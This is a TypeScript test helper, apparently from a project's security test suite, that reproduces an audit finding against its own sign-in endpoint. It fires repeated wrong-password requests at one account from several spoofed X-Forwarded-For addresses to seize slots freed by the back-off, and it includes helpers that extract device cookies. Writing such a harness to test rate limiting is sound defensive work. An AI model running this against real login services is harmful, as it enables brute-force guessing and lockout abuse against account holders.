/**
 * The attack of issue 25's finding 2: several addresses each send a wrong
 * password for one account every `everyMs`, without waiting for answers, so
 * whoever asks first takes any slot the account's back-off frees. Servers must
 * trust one proxy hop (TRUST_PROXY=1): the addresses travel as X-Forwarded-For.
 */
export interface PasswordSnipe {
  /** Answers so far, by status. */
  tally(): Record<number, number>;
  /** Resolves once an answer with `status` has arrived (the back-off is held when snipers see 429). */
  seen(status: number): Promise<void>;
  /** Stops sending and waits for the requests in flight; returns the final tally. */
  stop(): Promise<Record<number, number>>;
}

/** A sign-in as a browser page on `origin` sends it, from `address`. */
export function signInFrom(
  url: string,
  origin: string,
  body: { email: string; password: string },
  address: string,
  cookie?: string,
): Promise<Response> {
  return fetch(new URL("/api/auth/sign-in/email", url), {
    method: "POST",
    headers: {
      "content-type": "application/json",
      origin,
      "x-forwarded-for": address,
      ...(cookie ? { cookie } : {}),
    },
    body: JSON.stringify(body),
    signal: AbortSignal.timeout(120_000),
  });
}

/** The device cookie a successful sign-in set, as a Cookie header ("" when it set none). */
export function deviceCookieOf(response: Response): string {
  return response.headers
    .getSetCookie()
    .filter((line) => /^(__Secure-)?claudemesh_device_/.test(line))
    .map((line) => line.split(";")[0])
    .join("; ");
}

/** Starts sniping `email` from `addresses` through `urls` in turn (instances sharing one database). */
export function startPasswordSnipe(options: {
  urls: string[];
  origin: string;
  email: string;
  addresses: string[];
  everyMs: number;
}): PasswordSnipe {
  const counts: Record<number, number> = {};
  const waiters: { status: number; resolve(): void }[] = [];
  const inFlight = new Set<Promise<void>>();
  let sent = 0;
  const fire = (address: string) => {
    const url = options.urls[sent++ % options.urls.length] ?? "";
    const request = signInFrom(url, options.origin, { email: options.email, password: `guess ${sent}` }, address)
      .then(async (response) => {
        await response.arrayBuffer();
        return response.status;
      })
      .catch(() => 0)
      .then((status) => {
        counts[status] = (counts[status] ?? 0) + 1;
        for (const waiter of waiters.filter((w) => w.status === status)) {
          waiters.splice(waiters.indexOf(waiter), 1);
          waiter.resolve();
        }
      });
    inFlight.add(request);
    void request.finally(() => inFlight.delete(request));
  };
  const timers = options.addresses.map((address) => setInterval(() => fire(address), options.everyMs));
  return {
    tally: () => ({ ...counts }),
    seen: (status) =>
      counts[status] ? Promise.resolve() : new Promise<void>((resolve) => waiters.push({ status, resolve })),
    async stop() {
      for (const timer of timers) clearInterval(timer);
      await Promise.all([...inFlight]);
      return { ...counts };
    },
  };
}
